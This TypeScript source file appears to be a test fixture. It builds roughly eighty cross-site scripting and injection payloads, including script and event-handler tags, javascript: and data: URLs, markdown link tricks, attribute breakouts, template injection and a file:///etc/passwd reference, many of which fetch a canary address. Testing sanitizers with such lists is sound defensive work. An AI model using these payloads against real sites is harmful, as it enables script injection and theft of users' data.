/**
 * Texts that would run a script, load something or lead somewhere if they were ever taken for markup, an address or a template.
 * `canary` is an address that must never be asked for.
 */
export function scriptPayloads(canary: string): string[] {
  const run = `alert(document.domain)`;
  const call = `fetch('${canary}')`;
  return [...markup(run, canary), ...addresses(run, canary), ...markdown(run, canary), ...breakouts(run, call)];
}

function markup(run: string, canary: string): string[] {
  return [
    `<script>${run}</script>`, `<script src=${canary}></script>`, `<ScRiPt>${run}</sCrIpT>`, `<script\n>${run}</script\n>`, `<<script>${run}//<</script>`,
    `<img src=x onerror=${run}>`, `<img src=${canary}>`, `<img srcset="${canary} 1x">`, `<image/src/onerror=${run}>`, `<img src="x\` \`<script>${run}</script>"\` \`>`,
    `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`, `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
    `<body onload=${run}>`, `<iframe src="javascript:${run}">`, `<iframe srcdoc="<script>parent.${run}</script>">`, `<object data="javascript:${run}">`, `<embed src="${canary}">`,
    `<link rel=stylesheet href=${canary}>`, `<style>@import '${canary}';</style>`, `<style>*{background:url(${canary})}</style>`, `<div style="background:url(${canary})">x</div>`, `<base href="${canary}/">`,
    `<meta http-equiv=refresh content="0;url=${canary}">`, `<form action="${canary}"><button autofocus onfocus=${run}>x</button></form>`, `<input autofocus onfocus=${run}>`, `<details open ontoggle=${run}>`, `<video><source onerror=${run}></video>`,
    `<audio src=x onerror=${run}>`, `<video poster=${canary}>`, `<marquee onstart=${run}>x</marquee>`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<template><img src=x onerror=${run}></template>`, `<select><style></select><img src=x onerror=${run}></style>`, `<x contenteditable autofocus onfocus=${run}>`, `<a href="javascript:${run}">x</a>`, `<a href="data:text/html,<script>${run}</script>">x</a>`,
  ];
}

function addresses(run: string, canary: string): string[] {
  return [
    `javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `java\tscript:${run}`, `\u0001javascript:${run}`,
    `javascript://x.example/%0a${run}`, `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `vbscript:msgbox(1)`, `blob:${canary}`,
    `file:///etc/passwd`, `intent://x#Intent;scheme=javascript;end`,
  ];
}

function markdown(run: string, canary: string): string[] {
  return [
    `[x](javascript:${run})`, `[x](JaVaScRiPt:${run})`, `[x](javascript&colon;${run})`, `[x](&#106;avascript:${run})`, `[x](java&Tab;script:${run})`,
    `[x](data:text/html,<script>${run}</script>)`, `[x](<javascript:${run}>)`, `<javascript:${run}>`, `[x]: javascript:${run}\n\n[x]`, `![x](${canary})`,
    `![x](javascript:${run})`, `![x"onerror="${run}](x)`, `[x](${"http"}://x" onmouseover="${run})`, `[![x](${canary})](javascript:${run})`, `\`\`\`html\n<script>${run}</script>\n\`\`\``,
    `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${run}>"]; click A "javascript:${run}"\n\`\`\``, `| <img src=x onerror=${run}> |\n|---|\n| x |`, `- [ ] <svg onload=${run}>`,
  ];
}

function breakouts(run: string, call: string): string[] {
  return [
    `"><script>${run}</script>`, `'><img src=x onerror=${run}>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</script><script>${run}</script>`,
    `" onmouseover="${run}" x="`, `' autofocus onfocus='${run}`, `\`;${call};//`, `\${${run}}`, `{{constructor.constructor('${run}')()}}`,
    `<b>{name}</b><who>${call}</who>`, `]]><script>${run}</script>`, `--><script>${run}</script>`, `\u2028${run}\u2029`, `%3Cscript%3E${run}%3C/script%3E`,
  ];
}
